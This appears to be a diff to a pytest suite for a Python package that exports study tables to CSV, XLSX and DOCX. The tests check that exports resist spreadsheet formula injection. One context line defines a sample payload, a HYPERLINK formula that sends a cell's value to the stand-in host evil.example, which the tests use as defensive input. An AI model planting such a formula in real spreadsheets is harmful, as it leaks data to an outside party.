@@ -19,7 +19,7 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def _csv_rows(data: bytes) -> list[list[str]]:
     assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL])
@@ -137,3 +137,63 @@ def test_study_docx_reads_back_with_the_tables(study):
     assert head_rule.get(qn("w:val")) == "single"
     run = word.rows[1].cells[1].paragraphs[0].runs[0]
     assert run.font.name == "Arial" and run.font.size.pt == 10
+
+
+def test_readme_present_block_runs_on_the_demo(tmp_path, monkeypatch, study):
+    # the README's vbq.present / vbq.export example, executed as written, in a scratch folder
+    import re
+    from pathlib import Path
+
+    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text()
+    section = readme.split("### Tables for a manuscript: `vbq.present` and `vbq.export`", 1)[1]
+    code = re.search(r"```python\n(.*?)```", section, re.S).group(1)
+    _, prepared, _ = study
+    monkeypatch.chdir(tmp_path)
+    scope = {"vbq": vbq, "prepared": prepared}
+    exec(compile(code, "README.md", "exec"), scope)  # our own documentation, run as written
+    assert (tmp_path / "tables.docx").read_bytes()[:2] == b"PK"
+    assert _csv_rows((tmp_path / "table2.csv").read_bytes())[0] == [scope["t2"].title]
+    wb = openpyxl.load_workbook(tmp_path / "tables.xlsx")
+    assert "table2 data" in wb.sheetnames
+
+
+def test_the_app_writes_no_spreadsheet_but_through_vbq_export():
+    # one place makes exports safe: a page or ui helper writing CSV/XLSX itself would bypass it
+    import re
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[1]
+    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|Workbook\(|ExcelWriter\(")
+    offenders = [f"{p.relative_to(root)}:{i}" for folder in ("app_pages", "ui")
+                 for p in sorted((root / folder).glob("*.py"))
+                 for i, line in enumerate(p.read_text().splitlines(), start=1)
+                 if pattern.search(line)]
+    assert not offenders, offenders
+
+
+def test_no_text_ever_leaves_as_a_formula():
+    # property: whatever text a cell holds, no exported CSV cell starts a formula and no XLSX
+    # cell is a formula; numbers come back as the same numbers
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    text = st.text(alphabet=st.sampled_from(list("=+-@\t\r abc1.,\"'\n;")), max_size=8)
+
+    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+    @given(st.lists(st.tuples(text, st.floats(allow_nan=False, allow_infinity=False,
+                                              width=32)), min_size=1, max_size=5))
+    def check(rows):
+        frame = pd.DataFrame(rows, columns=["patient_id", "value"])
+        parsed = _csv_rows(E.frame_csv(frame))[1:]
+        assert len(parsed) == len(rows)  # a line break inside a cell never splits its row
+        for row, (raw, _) in zip(parsed, rows, strict=True):
+            assert not row[0].startswith(E.FORMULA_TRIGGERS)
+            assert row[0] in (raw, "'" + raw)
+        ws = openpyxl.load_workbook(io.BytesIO(E.frame_xlsx(frame))).active
+        for (cell, number), (_, expected) in zip(ws.iter_rows(min_row=2), rows, strict=True):
+            assert cell.data_type != "f"
+            if cell.value is not None:
+                assert not str(cell.value).startswith(E.FORMULA_TRIGGERS)
+            assert number.data_type == "n" and number.value == pytest.approx(expected)
+
+    check()
